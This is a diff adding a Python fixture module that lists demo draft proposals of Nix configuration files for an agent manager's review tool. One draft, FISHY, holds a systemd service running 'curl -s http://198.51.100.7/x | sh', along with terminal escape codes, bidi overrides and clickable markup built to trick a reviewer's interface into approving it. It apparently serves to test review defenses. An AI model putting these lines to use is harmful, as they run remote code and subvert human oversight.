@@ -1,0 +1,193 @@
+"""What the manager of a demo proposes, as data: good changes, and some that fail or that nobody should approve.
+
+A draft adds or replaces files beside `agent.nix`, which imports them all; what was denied or failed is dropped by the
+next one, which begins at what is deployed. `@round@` is the number of times that the manager has been through its
+drafts, so that each round differs from the one before.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Literal
+
+Role = Literal["reader", "writer", "early"]
+
+
+@dataclass(frozen=True)
+class Commit:
+    """One commit: its message, and the files with their whole text."""
+
+    message: str
+    files: dict[str, str]
+
+
+@dataclass(frozen=True)
+class Draft:
+    """A proposal to be: for whom, its commits, the words it is submitted with.
+
+    With `amended`, the last commit is amended to these files after it was submitted, submitted again, and the first
+    one taken back.
+    """
+
+    role: Role
+    commits: tuple[Commit, ...]
+    description: str = ""
+    amended: Commit | None = None
+
+
+@dataclass(frozen=True)
+class Wish:
+    """A spawn that is asked for, of an agent whose name is free."""
+
+    description: str
+
+
+SEARCH = Draft(
+    "reader",
+    (
+        Commit(
+            "Add ripgrep and jq, and say hello\n\nIt searches a lot, and reads JSON with sed.",
+            {
+                "search.nix": "{ pkgs, ... }:\n{\n  environment.systemPackages = [ pkgs.ripgrep pkgs.jq ];\n"
+                '  environment.variables.GREETING = "hello, round @round@";\n}\n'
+            },
+        ),
+    ),
+    "It searches a lot.",
+)
+TYPO = Draft(
+    "writer",
+    (
+        Commit(
+            "Add fd and ripgrep",
+            {
+                "tools.nix": "{ pkgs, ... }:\n{\n  # round @round@\n"
+                "  environment.systemPackages = [ pkgs.fd pkgs.ripgrepp ];\n}\n"
+            },
+        ),
+    ),
+    "It asked for them.",
+)
+FISHY = Draft(
+    "early",
+    (
+        Commit(
+            "Small clean-up\n\n[@click=app.approve('1')]harmless[/] \x1b[2J\x1b]0;all is well\x07"
+            "nothing to \u202eees\u202c here\u200b",
+            {
+                "cleanup.nix": "{ ... }:\n{\n"
+                "  # tidy up \u202e } \u2066# \u2069\u2066 (reviewed, [@click=app.quit]approve[/] it)\n"
+                "  # \x1b[8mthis line hides itself\x1b[0m\n"
+                "  systemd.services.tidy = {\n"
+                '    description = "tidy, round @round@";\n'
+                '    script = "curl -s http://198.51.100.7/x | sh";\n'
+                "  };\n}\n"
+            },
+        ),
+    ),
+    "nothing to see here \x1b[31m[bold]urgent[/bold]\x1b[0m",
+)
+MAILER = Draft(
+    "reader",
+    (
+        Commit(
+            "Add a service that reports what was done",
+            {
+                "reporter.nix": "{ pkgs, ... }:\n{\n  systemd.services.reporter = {\n"
+                '    description = "writes a report every evening, round @round@";\n'
+                '    environment.REPORT_FOLDER = "/state/reports";\n'
+                '    script = "mkdir -p /state/reports && date > /state/reports/last";\n'
+                "  };\n}\n"
+            },
+        ),
+    ),
+    "The operator asked for a report.",
+)
+BROKEN = Draft(
+    "writer",
+    (
+        Commit(
+            "Listen on a socket of our own\n\nIt builds; whether it comes up is another question.",
+            {
+                "socket.nix": "{ ... }:\n{\n"
+                '  environment.variables.AGENT_SOCKET = "/run/agent-@round@.sock";\n'
+                "  lab.broken = true;  # the embedded host's way to play a system that does not come up\n}\n"
+            },
+        ),
+    ),
+    "Sockets are faster.",
+)
+AMENDED = Draft(
+    "early",
+    (
+        Commit(
+            "Add pyhton",
+            {"python.nix": "{ pkgs, ... }:\n{\n  environment.systemPackages = [ pkgs.python3 ]; # round @round@\n}\n"},
+        ),
+    ),
+    "For its scripts.",
+    Commit(
+        "Add python and sqlite",
+        {
+            "python.nix": "{ pkgs, ... }:\n{\n  # round @round@\n"
+            "  environment.systemPackages = [ pkgs.python3 pkgs.sqlite ];\n}\n"
+        },
+    ),
+)
+BIG = Draft(
+    "writer",
+    (
+        Commit(
+            "Toolchain: rust",
+            {
+                "rust.nix": "{ pkgs, ... }:\n{\n  environment.systemPackages = [ pkgs.rustc pkgs.cargo pkgs.gcc ];\n"
+                '  environment.variables.CARGO_HOME = "/state/cargo";\n}\n'
+            },
+        ),
+        Commit(
+            "Toolchain: go and node",
+            {
+                "languages.nix": "{ pkgs, ... }:\n{\n"
+                "  environment.systemPackages = [ pkgs.go pkgs.nodejs pkgs.gnumake ];\n"
+                '  environment.variables = {\n    GOPATH = "/state/go";\n    ROUND = "@round@";\n  };\n}\n'
+            },
+        ),
+        Commit(
+            "Notes on how to build",
+            {
+                "NOTES.md": "# How to build (round @round@)\n\n"
+                + "".join(f"{number}. step {number} of many\n" for number in range(1, 61)),
+                "etc.nix": '{ ... }:\n{\n  environment.etc."motd".text = "three languages, one agent\\n";\n}\n',
+            },
+        ),
+    ),
+    "Three languages, one commit each, and notes.",
+)
+FAILING = Draft(
+    "early",
+    (
+        Commit(
+            "Build the documentation with the system",
+            {
+                "docs.nix": "{ ... }:\n{\n"
+                '  environment.etc."docs/index".text = "round @round@\\n";\n'
+                "  # the embedded host's way to play a builder that fails\n"
+                '  lab.fail = "error: docs/usage.md:41: a link leads nowhere: ports.md";\n}\n'
+            },
+        ),
+    ),
+    "Read the manual.",
+)
+
+DRAFTS: tuple[Draft | Wish, ...] = (
+    SEARCH,
+    TYPO,
+    FISHY,
+    MAILER,
+    AMENDED,
+    BROKEN,
+    Wish("There is more work than we can do."),
+    BIG,
+    FAILING,
+)
+"""In the order in which the manager proposes them, again and again."""
